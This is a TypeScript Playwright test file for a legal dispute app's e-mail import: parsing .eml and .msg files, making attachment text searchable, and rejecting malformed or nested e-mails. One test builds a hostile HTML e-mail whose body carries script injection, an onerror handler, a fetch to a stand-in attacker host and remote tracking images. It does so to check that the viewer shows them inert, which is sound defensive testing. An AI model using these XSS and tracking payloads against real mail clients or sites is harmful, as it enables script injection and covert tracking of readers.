import type { Page } from '@playwright/test';
import { solidPng } from '../fixtures/files';
import { emlOf, msgOf, type FixtureEmail } from '../fixtures/emails';
import { textPdf } from '../fixtures/pdfs';
import { expect, test } from './fixtures';
import { DisputesList } from './models/disputes-list';
import { DocumentsTab } from './models/documents';
import { OfflineGuard } from './models/offline';
import { seriousViolations } from './models/axe';

async function newDispute(page: Page, title: string) {
  await page.getByRole('button', { name: 'Start empty' }).click();
  await new DisputesList(page).create({ title });
  await expect(page.getByRole('heading', { name: title, level: 1 })).toBeVisible();
  const documents = new DocumentsTab(page);
  await documents.open();
  return documents;
}

async function find(page: Page, words: string) {
  await page.getByRole('textbox', { name: 'Find in documents' }).fill(words);
}

async function letterWithFiling(subject: string, word: string): Promise<FixtureEmail> {
  return {
    from: 'Li Wei <li.wei@outside-counsel.example>',
    to: ['In-house Counsel <counsel@example.com>'],
    cc: ['Paralegal <paralegal@example.com>'],
    subject,
    date: new Date('2024-05-06T07:08:09Z'),
    text: `Dear counsel, the ${subject.toLowerCase()} is attached.`,
    attachments: [
      {
        name: `${subject} as filed.pdf`,
        mimeType: 'application/pdf',
        bytes: await textPdf([[`${subject}`, `The filing mentions ${word}`]]),
      },
    ],
  };
}

test.describe('e-mails as filings', () => {
  test('an .eml dropped on a dispute becomes an e-mail and a searchable filing', async ({
    app,
  }) => {
    const documents = await newDispute(app.page, 'Mail v. Filing');
    const eml = emlOf(await letterWithFiling('Statement of defence', 'pangolin'));
    await documents.drop(app.page.getByRole('heading', { name: 'Mail v. Filing', level: 1 }), [
      { name: 'defence.eml', mimeType: 'message/rfc822', buffer: eml },
    ]);
    await documents.expectRow('Statement of defence', 'Correspondence');
    await documents.expectRow('Statement of defence as filed', 'Other');
    await expect(documents.table.getByRole('row')).toHaveCount(3);

    // The attachment's text is extracted like any filing's, and the e-mail's own text is found.
    await find(app.page, 'pangolin');
    await expect(documents.table.getByRole('row')).toHaveCount(2);
    await expect(documents.table).toContainText('Text extracted');
    await find(app.page, 'paralegal');
    await expect(documents.table.getByRole('row')).toHaveCount(2);
    await expect(documents.table).toContainText('Correspondence');
    await find(app.page, '');

    const email = await documents.view('Statement of defence');
    await expect(email.getByText('Li Wei <li.wei@outside-counsel.example>')).toBeVisible();
    await expect(email.getByText('Paralegal <paralegal@example.com>')).toBeVisible();
    await expect(email.getByLabel('Body of the e-mail Statement of defence')).toContainText(
      'Dear counsel, the statement of defence is attached.',
    );
    const attachments = email.getByRole('region', { name: 'Attachments' });
    await attachments.getByRole('button', { name: 'Statement of defence as filed' }).click();
    const attachment = app.page.getByRole('dialog', { name: 'Statement of defence as filed' });
    await attachment.getByRole('tab', { name: 'Details' }).click();
    await expect(attachment).toContainText('Statement of defence as filed.pdf');
  });

  test('an Outlook .msg attached becomes an e-mail and a searchable filing', async ({ app }) => {
    const documents = await newDispute(app.page, 'Outlook v. Filing');
    const msg = msgOf(await letterWithFiling('Expert report', 'okapi'));
    await documents.attachThroughChooser([
      { name: 'report.msg', mimeType: 'application/vnd.ms-outlook', buffer: msg },
    ]);
    await expect(documents.table.getByRole('row')).toHaveCount(3);
    await find(app.page, 'okapi');
    await expect(documents.table.getByRole('row')).toHaveCount(2);
    await expect(documents.table).toContainText('Text extracted');
    await find(app.page, 'li.wei@outside-counsel.example');
    await expect(documents.table).toContainText('Correspondence');
  });

  test('a hostile HTML e-mail is shown inert: no script runs, no remote image loads', async ({
    app,
    baseURL,
  }) => {
    const guard = await OfflineGuard.install(app.context, new URL(baseURL!).origin);
    const documents = await newDispute(app.page, 'Hostile v. Mail');
    const hostile = emlOf({
      from: 'Attacker <bad@evil.example>',
      to: ['counsel@example.com'],
      subject: 'Urgent settlement offer',
      date: new Date('2024-06-01T10:00:00Z'),
      html:
        '<p>Our offer stands.</p>' +
        '<script>window.top.document.title = "pwned"; fetch("https://evil.example/script")</script>' +
        '<img src="https://tracker.evil.example/open.gif" alt="tracker">' +
        '<img src="x" onerror="window.top.document.title = \'pwned\'">' +
        '<p style="background:url(https://tracker.evil.example/bg.png)">Signed</p>' +
        '<img src="cid:seal" alt="Company seal">',
      attachments: [
        {
          name: 'seal.png',
          mimeType: 'image/png',
          bytes: solidPng(8, 8, [0, 0, 200]),
          contentId: 'seal',
        },
      ],
    });
    await documents.attachThroughChooser([
      { name: 'offer.eml', mimeType: 'message/rfc822', buffer: hostile },
    ]);
    // The inline image stays with the e-mail: one document, no separate filing.
    await expect(documents.table.getByRole('row')).toHaveCount(2);
    const title = await app.page.title();
    const viewer = await documents.view('Urgent settlement offer');
    const body = viewer.frameLocator('iframe[title="Body of the e-mail Urgent settlement offer"]');
    await expect(body.getByText('Our offer stands.')).toBeVisible();
    await expect(viewer.getByText('2 remote images were not loaded')).toBeVisible();
    await expect(viewer.getByText('1 inline image shown in the body')).toBeVisible();
    // The inline image is drawn from the e-mail itself.
    await expect
      .poll(() =>
        body
          .getByRole('img', { name: 'Company seal' })
          .evaluate((img: HTMLImageElement) => img.naturalWidth),
      )
      .toBe(8);
    expect(await viewer.locator('iframe').getAttribute('sandbox')).toBe('');
    expect(await seriousViolations(app.page, { legacyMode: true }), 'e-mail viewer').toEqual([]);
    expect(await app.page.title()).toBe(title);
    expect(guard.blocked).toEqual([]);
  });

  test('refuses a malformed e-mail and one carrying another e-mail, storing nothing', async ({
    app,
  }) => {
    const documents = await newDispute(app.page, 'Bad v. Mail');
    const inner = emlOf(await letterWithFiling('Inner', 'inner'));
    const nested = emlOf({
      ...(await letterWithFiling('Forwarded', 'outer')),
      attachments: [{ name: 'original.eml', mimeType: 'message/rfc822', bytes: inner }],
    });
    await documents.attachThroughChooser([
      { name: 'forwarded.eml', mimeType: 'message/rfc822', buffer: nested },
      { name: 'broken.msg', mimeType: 'application/vnd.ms-outlook', buffer: Buffer.from('nope') },
    ]);
    await expect(app.page.getByText(/carries another e-mail \(“original.eml”\)/)).toBeVisible();
    await expect(app.page.getByText(/“broken.msg” could not be read as an e-mail/)).toBeVisible();
    expect(await documents.stored()).toEqual({ documents: 0, files: 0 });
  });
});
